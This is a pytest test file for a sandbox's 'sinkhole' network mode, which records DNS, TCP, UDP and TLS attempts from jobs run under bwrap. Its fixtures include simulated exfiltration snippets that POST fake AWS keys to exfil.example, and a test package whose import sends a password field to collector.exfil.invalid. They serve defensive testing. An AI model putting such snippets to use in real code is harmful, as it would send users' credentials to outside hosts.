"""The sinkhole network: every DNS query answered, every TCP/UDP attempt recorded, nothing out.

The sandboxes here really run (bwrap as root); the host listeners are real sockets on the
host's loopback and on its own interface address, which must see nothing.
"""

from __future__ import annotations

import json
import os
import socket
import ssl
import struct
import subprocess
import threading
from pathlib import Path

import pytest

from conftest import ROOT, detain_cli, require, run
from detain.errors import DetainError
from detain.net import protocols
from detain.net.sinkhole import KERNEL_DROPS, NameTable
from detain.policy import Policy

needs_root = pytest.mark.skipif(not ROOT, reason="the sinkhole needs root")


def dns_query(name: str, qtype: int = 1, ident: int = 0x1234) -> bytes:
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    return struct.pack("!HHHHHH", ident, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(
        "!HH", qtype, 1)


def client_hello(server_name: str) -> bytes:
    context = ssl.create_default_context()
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname=server_name)
    with pytest.raises(ssl.SSLWantReadError):
        tls.do_handshake()
    return outgoing.read()


def sinkhole_events(result) -> list[dict]:
    """The recorder's records (not its one `sinkhole.lost` count)."""
    return [e for e in result.behaviour["events"] if e["event"].startswith("sinkhole.")
            and e["event"] != "sinkhole.lost"]


# --- parsers: hostile bytes in, capped and escaped text out --------------------------

def test_dns_question_and_answer_round_trip():
    packet = dns_query("Leak.Example.com", 28)
    name, qtype, end = protocols.dns_question(packet)
    assert (name, qtype, end) == ("leak.example.com", 28, len(packet))
    answer = protocols.dns_answer(packet, end, socket.inet_pton(socket.AF_INET6, "fd00::1"), 28)
    assert answer[:2] == packet[:2] and answer[2] & 0x80  # same id, a response
    assert struct.unpack("!HH", answer[4:8]) == (1, 1) and answer.endswith(
        socket.inet_pton(socket.AF_INET6, "fd00::1"))


def test_parsers_survive_every_truncation_and_refuse_pointers():
    hello, query = client_hello("sni.example"), dns_query("a.example")
    for size in range(len(hello)):
        protocols.tls_sni(hello[:size])
    for size in range(len(query)):
        assert protocols.dns_question(query[:size]) is None
    pointer = query[:12] + b"\xc0\x0c" + query[-4:]
    assert protocols.dns_question(pointer) is None
    assert protocols.tls_sni(hello) == "sni.example"


def test_http_request_and_secret_markers():
    data = (b"POST /c?x=1 HTTP/1.1\r\nHost: exfil.example\r\nContent-Length: 212\r\n\r\n"
            b"aws_secret_access_key=AKIAABCDEFGHIJKLMNOP\x1b[2J")
    request = protocols.http_request(data)
    assert request["method"] == "POST" and request["host"] == "exfil.example"
    assert request["path"] == "/c?x=1" and request["body_bytes"] == 212
    assert request["body_excerpt"].endswith("\\x1b[2J")  # a terminal escape, escaped
    assert protocols.secrets_in(data) == ["aws_secret_access_key", "AKIAABCDEFGHIJKLMNOP"]
    bare = b"POST /c HTTP/1.1\nHost: h\nContent-Length: 4\n\nbody"  # LF only, as some send
    assert protocols.http_complete(bare) and not protocols.http_complete(bare[:-1])
    assert protocols.http_request(bare) == {"method": "POST", "host": "h", "path": "/c",
                                            "body_bytes": 4, "body_excerpt": "body"}


def test_text_escapes_every_non_utf8_byte_and_control():
    assert protocols.text(b"ok\\\xff\x00\xe2\x80\xae") == "ok\\\\\\xff\\x00\\u202e"
    assert len(protocols.text(b"x" * 10_000)) == protocols.TEXT_CAP


def test_name_table_maps_both_ways():
    table = NameTable()
    first = table.address("exfil.example", socket.AF_INET)
    assert first == "10.66.0.1" and table.address("exfil.example", socket.AF_INET) == first
    assert table.name(table.address("other.example", socket.AF_INET6)) == "other.example"
    assert table.name("10.66.9.9") is None and table.name("8.8.8.8") is None


def test_policy_network_values():
    assert Policy().merge({"network": "sinkhole"}, "t").network == "sinkhole"
    both = Policy().merge({"network": {"allow": ["pypi.org"], "sinkhole": True}}, "t")
    assert both.network == "allow-list+sinkhole"
    assert both.describe()["network"] == {"allow": ["pypi.org"], "sinkhole": True}
    assert Policy().merge({"network": "none"}, "t").network == "none"
    with pytest.raises(DetainError, match="sinkhole"):
        Policy().merge({"network": "everything"}, "t")


def test_backends_without_their_own_network_say_which_can():
    with pytest.raises(DetainError, match="supported: bwrap"):
        run("process", "print(1)", network="sinkhole", min_level=0)


# --- real runs -------------------------------------------------------------------------

POST = ('import socket; s=socket.create_connection(("exfil.example", 80)); s.sendall('
        'b"POST /c HTTP/1.1\\r\\nHost: exfil.example\\r\\nContent-Length: 30\\r\\n\\r\\n'
        'aws_secret_access_key=AKIAXXXX"); print(s.recv(100))')


@needs_root
def test_post_is_recorded_with_its_dns_query_and_body():
    require("bwrap")
    done = detain_cli("run", "--backend", "bwrap", "--network", "sinkhole", "--json", "-",
                      "-c", POST, timeout=60)
    assert done.returncode == 0, done.stderr
    result = json.loads(done.stdout)
    assert "200 OK" in result["stdout"]
    events = [e for e in result["behaviour"]["events"] if e["event"].startswith("sinkhole.")]
    dns = [e for e in events if e["event"] == "sinkhole.dns"]
    assert {e["detail"]["dns"]["query"] for e in dns} == {"exfil.example"}
    post = next(e for e in events if e["event"] == "sinkhole.tcp")
    assert post["provenance"] == "kernel/runtime" and post["category"] == "network"
    assert post["detail"]["http"]["body_excerpt"] == "aws_secret_access_key=AKIAXXXX"
    assert post["summary"] == ("would have POSTed 30 bytes containing "
                               "`aws_secret_access_key` to exfil.example:80 /c")
    assert (post["file"], post["line"]) == ("<string>", 1)
    assert result["behaviour"]["sinkhole"]["names"] == ["exfil.example"]


UDP_AND_TLS = """
import socket, ssl, sys
u = socket.socket(type=socket.SOCK_DGRAM); u.settimeout(5)
u.sendto(bytes.fromhex(sys.argv[1]), ("8.8.8.8", 53))
reply, sender = u.recvfrom(512)
print("dns", sender, socket.inet_ntoa(reply[-4:]))
u.sendto(b"ping", ("192.0.2.77", 9999))
raw = socket.create_connection(("203.0.113.5", 443), timeout=5)
try:
    ssl.create_default_context().wrap_socket(raw, server_hostname="secret.example")
except (ssl.SSLError, OSError) as exc:
    print("tls failed as expected", type(exc).__name__)
own = socket.create_server(("127.0.0.1", 0))
client = socket.create_connection(own.getsockname())
peer, _ = own.accept(); client.sendall(b"loop"); print("own server", peer.recv(4))
"""


@needs_root
def test_udp_dns_tls_sni_and_the_jobs_own_loopback_server():
    require("bwrap")
    query = dns_query("leak.example.com", ident=0x4242).hex()
    result = run("bwrap", UDP_AND_TLS, query, network="sinkhole")
    out = result.stdout.decode()
    assert result.exit_code == 0, (out, result.stderr)
    assert "dns ('8.8.8.8', 53) 10.66." in out and "own server b'loop'" in out
    events = sinkhole_events(result)
    dns = next(e["detail"] for e in events if e["detail"]["address"] == "8.8.8.8")
    assert dns["dns"] == {"query": "leak.example.com", "type": "A",
                          "answer": dns["dns"]["answer"]}
    udp = next(e for e in events if e["event"] == "sinkhole.udp")
    assert (udp["detail"]["address"], udp["detail"]["port"]) == ("192.0.2.77", 9999)
    tls = next(e for e in events if e["detail"]["tls"])
    assert tls["detail"]["tls"]["sni"] == "secret.example" and tls["detail"]["port"] == 443
    assert "TLS to 203.0.113.5:443 for secret.example" in tls["summary"]
    assert not any(e["detail"]["address"] == "127.0.0.1" for e in events)


def host_address() -> str | None:
    """The host's own non-loopback IPv4 address (`ip -4 -o addr show scope global`)."""
    listed = subprocess.run(["ip", "-4", "-o", "addr", "show", "scope", "global"],
                            capture_output=True, text=True).stdout.split()
    return listed[listed.index("inet") + 1].split("/")[0] if "inet" in listed else None


REACH = """
import socket, sys
for address, tcp, udp in zip(*[iter(sys.argv[1:])] * 3):
    s = socket.create_connection((address, int(tcp)), timeout=5); s.sendall(b"hello host")
    s.close()
    socket.socket(type=socket.SOCK_DGRAM).sendto(b"hello host", (address, int(udp)))
print("done")
"""


@needs_root
def test_the_host_gets_nothing_and_nothing_of_the_sinkhole_survives():
    require("bwrap")
    addresses = ["127.0.0.1"] + [a for a in (host_address(),) if a]
    listeners, args = [], []
    for address in addresses:
        tcp = socket.create_server((address, 0))
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        udp.bind((address, 0))
        for sock in (tcp, udp):
            sock.setblocking(False)
        listeners += [tcp, udp]
        args += [address, str(tcp.getsockname()[1]), str(udp.getsockname()[1])]
    rules_before = subprocess.run(["nft", "list", "ruleset"], capture_output=True).stdout
    routes_before = subprocess.run(["ip", "route"], capture_output=True).stdout
    code = REACH + "import os; print('netns', os.stat('/proc/self/ns/net').st_ino)\n"
    try:
        result = run("bwrap", code, *args, network="sinkhole")
        assert result.exit_code == 0, result.stderr
        for sock in listeners:
            with pytest.raises(BlockingIOError):
                sock.accept() if sock.type == socket.SOCK_STREAM else sock.recv(100)
    finally:
        for sock in listeners:
            sock.close()
    seen = {(e["detail"]["address"], e["detail"]["port"], e["event"])
            for e in sinkhole_events(result)}
    for address, tcp, udp in zip(*[iter(args)] * 3):
        assert {(address, int(tcp), "sinkhole.tcp"), (address, int(udp), "sinkhole.udp")} <= seen
    inode = int(result.stdout.decode().split("netns ")[1])
    assert inode != os.stat("/proc/self/ns/net").st_ino
    assert not [t.name for t in threading.enumerate() if t.name.startswith("detain-sinkhole")]
    assert f"net:[{inode}]" not in namespace_links()
    assert subprocess.run(["nft", "list", "ruleset"], capture_output=True).stdout == rules_before
    assert subprocess.run(["ip", "route"], capture_output=True).stdout == routes_before


def namespace_links() -> set[str]:
    """Every network namespace some process is in or holds an fd to, as `net:[inode]`."""
    found = set()
    for proc in Path("/proc").iterdir():
        if not proc.name.isdigit():
            continue
        for link in [proc / "ns" / "net", *_fds(proc)]:
            try:
                found.add(os.readlink(link))
            except OSError:
                continue
    return {link for link in found if link.startswith("net:")}


def _fds(proc: Path) -> list[Path]:
    try:
        return list((proc / "fd").iterdir())
    except OSError:
        return []


@needs_root
@pytest.mark.slow  # a whole `detain package`: install and import, each in a sandbox
def test_package_vetting_defaults_to_the_sinkhole(tmp_path):
    require("bwrap")
    from detain.package.phases import vet
    from test_package import build_wheel

    code = (b"import socket\ns = socket.create_connection(('collector.exfil.invalid', 80))\n"
            b"s.sendall(b'POST /k HTTP/1.0\\r\\nContent-Length: 9\\r\\n\\r\\npassword=')\n")
    wheel = build_wheel(tmp_path, "phoner", {"phoner/__init__.py": code})
    report = vet(str(wheel), Policy().merge({"backend": "bwrap"}, "test"))
    imported = next(p for p in report["phases"] if p["phase"] == "import")
    assert imported["sinkhole"]["names"] == ["collector.exfil.invalid"]
    post = next(e for e in imported["report"]["events"] if e["event"] == "sinkhole.tcp")
    assert "would have POSTed 9 bytes containing `password` to collector.exfil.invalid:80" \
        in post["summary"]
    assert post["file"].endswith("phoner/__init__.py") and post["line"] == 2


# --- the recorder under load: nothing hidden, whatever is lost counted ---------------------

KEY_POST = (b"POST /k HTTP/1.1\r\nHost: exfil.example\r\nContent-Length: 42\r\n\r\n"
            b"AWS_SECRET_ACCESS_KEY=AKIAABCDEFGHIJKLMNOP")

TRICKLE = f"""
import socket, threading, time
stop = time.monotonic() + 2.5
def trickle(i):  # holds a connection, one byte every 0.2 s; reconnects when cut
    while time.monotonic() < stop:
        try:
            s = socket.create_connection((f"10.7.7.{{i}}", 80), timeout=3)
            while time.monotonic() < stop:
                s.send(b"x"); time.sleep(0.2)
        except OSError:
            pass
threads = [threading.Thread(target=trickle, args=(i,)) for i in range(1, 25)]
for t in threads: t.start()
time.sleep(0.8)
s = socket.create_connection(("203.0.113.1", 443), timeout=10)
s.sendall({KEY_POST!r})
print("answer", s.recv(100))
for t in threads: t.join()
"""


def sinkhole_run(code: str):
    """A bwrap run of `code` in the sinkhole, which must succeed."""
    require("bwrap")
    result = run("bwrap", code, network="sinkhole", timeout=30)
    assert result.exit_code == 0, result.stderr
    return result


def the_post(events: list[dict], address: str) -> dict:
    return next(e for e in events if e["event"] == "sinkhole.tcp"
                and e["detail"]["address"] == address)


def assert_key_post(post: dict) -> None:
    assert post["detail"]["http"]["path"] == "/k"
    assert post["detail"]["http"]["host"] == "exfil.example"
    assert post["detail"]["secrets"] == ["AWS_SECRET_ACCESS_KEY", "AKIAABCDEFGHIJKLMNOP"]
    assert not post["detail"]["note"]


@needs_root
def test_connections_holding_every_slot_cannot_hide_a_post(monkeypatch):
    from detain.net import sinkhole_conns
    from detain.report.verdict import verdict

    monkeypatch.setattr(sinkhole_conns, "MAX_OPEN", 8)  # 24 tricklers for 8 places
    result = sinkhole_run(TRICKLE)
    assert b"answer b'HTTP/1.1 200 OK" in result.stdout
    events = sinkhole_events(result)
    post = the_post(events, "203.0.113.1")
    assert_key_post(post)
    assert post["file"] and post["line"]  # the job's connect lends its place
    cut = [e for e in events if "cut short" in (e["detail"]["note"] or "")]
    seen = result.behaviour["sinkhole"]
    assert cut and seen["lost"][sinkhole_conns.CUT] == len(cut) == seen["dropped"]
    assert cut[0]["detail"]["first_bytes"].startswith("x")  # what it sent is still shown
    lost = next(e for e in result.behaviour["events"] if e["event"] == "sinkhole.lost")
    assert any("cut short" in note for note in result.notes)
    assert verdict([lost])["level"] == "suspicious"


FLOOD = f"""
import socket
u = socket.socket(type=socket.SOCK_DGRAM)
for _ in range(12_000):
    u.sendto(b"x", ("10.9.9.9", 9))
s = socket.create_connection(("203.0.113.7", 443), timeout=10)
s.sendall({KEY_POST!r})
print("answer", s.recv(100))
"""


@needs_root
def test_a_flood_of_noise_cannot_push_the_evidence_out():
    from detain.net import sinkhole_log

    result = sinkhole_run(FLOOD)
    events = sinkhole_events(result)
    assert_key_post(the_post(events, "203.0.113.7"))
    seen = result.behaviour["sinkhole"]
    kept_udp = [e for e in events if e["event"] == "sinkhole.udp"]
    assert len(kept_udp) == sinkhole_log.DESTINATION_CAP  # per destination
    beyond = seen["lost"][sinkhole_log.BEYOND.format("udp")]
    kernel = seen["lost"].get(KERNEL_DROPS, 0)
    assert seen["udp_datagrams"] == len(kept_udp) + beyond  # seen: kept or counted
    assert seen["udp_datagrams"] + kernel == 12_000  # and the kernel's drops make the rest
    assert seen["dropped"] == beyond + kernel


NAMES_AND_BURST = """
import socket
for i in range(8):
    print("name", i, socket.getaddrinfo(f"n{i}.example", 80, socket.AF_INET)[0][4][0])
u = socket.socket(type=socket.SOCK_DGRAM)
for i in range(3000):
    u.sendto(b"burst", ("10.8.8.%d" % (i % 200 + 1), 7))
"""


@needs_root
def test_names_past_the_table_are_answered_and_kernel_drops_counted(monkeypatch):
    from detain.net import sinkhole

    monkeypatch.setattr(sinkhole, "MAX_NAMES", 5)
    monkeypatch.setattr(sinkhole, "UDP_BUFFER", 4096)  # a queue the burst must overflow
    result = sinkhole_run(NAMES_AND_BURST)
    answers = [line.split()[2] for line in result.stdout.decode().splitlines()]
    assert answers[:5] == [f"10.66.0.{i}" for i in range(1, 6)]
    assert answers[5:] == ["10.66.255.254"] * 3  # still answered, by the shared address
    seen = result.behaviour["sinkhole"]
    assert seen["overflow_answers"] == 3 and any("10.66.255.254" in n for n in result.notes)
    drops = seen["lost"][KERNEL_DROPS]
    assert drops > 0 and seen["udp_datagrams"] + drops == 3000
    # every loss is counted, the kernel's among them (how many datagrams the kernel drops
    # and how many arrive past the UDP cap depends on how fast the recorder reads)
    assert seen["dropped"] == sum(seen["lost"].values()) >= drops


ODD_ADDRESSES = """
import socket
mapped = socket.socket(socket.AF_INET6)
mapped.settimeout(5)
mapped.connect(("::ffff:127.0.0.1", 8081)); mapped.sendall(b"mapped")
scoped = socket.create_connection(("fe80::1%lo", 8082), timeout=5); scoped.sendall(b"scoped")
print("ok")
"""


@needs_root
def test_mapped_and_link_local_destinations_are_attributed():
    result = sinkhole_run(ODD_ADDRESSES)
    events = sinkhole_events(result)
    mapped = next(e for e in events if e["detail"]["port"] == 8081)
    scoped = next(e for e in events if e["detail"]["port"] == 8082)
    assert mapped["detail"]["address"] == "127.0.0.1" and scoped["detail"]["address"] == "fe80::1"
    assert (mapped["line"], scoped["line"]) == (5, 6), (mapped, scoped)
    assert mapped["file"] and mapped["file"] == scoped["file"]


def test_record_log_caps_noise_per_kind_and_place_and_keeps_evidence():
    from detain.net import sinkhole_log

    log = sinkhole_log.RecordLog()
    noise = {"kind": "tcp", "address": "10.1.0.1", "port": 80, "secrets": [], "http": None}
    for i in range(sinkhole_log.KIND_CAP + 500):  # many places, each under its own cap
        log.add({**noise, "address": f"10.1.{i // 250}.{i % 250}"})
    for _ in range(sinkhole_log.DESTINATION_CAP + 5):
        log.add({**noise, "kind": "udp"})
    log.add({**noise, "secrets": ["token"]})
    kept = log.snapshot()
    assert sum(r["kind"] == "tcp" for r in kept) == sinkhole_log.KIND_CAP + 1
    assert sum(r["kind"] == "udp" for r in kept) == sinkhole_log.DESTINATION_CAP
    assert kept[-1]["secrets"] == ["token"] and log.seen["tcp"] == sinkhole_log.KIND_CAP + 501
    assert log.lost == {sinkhole_log.BEYOND.format("tcp"): 500,
                        sinkhole_log.BEYOND.format("udp"): 5}


def test_canonical_addresses():
    from detain.net.sinkhole_events import canonical

    assert canonical("::ffff:127.0.0.1") == "127.0.0.1"
    assert canonical("FE80:0::1%eth0") == "fe80::1"
    assert canonical("exfil.example") == "exfil.example"
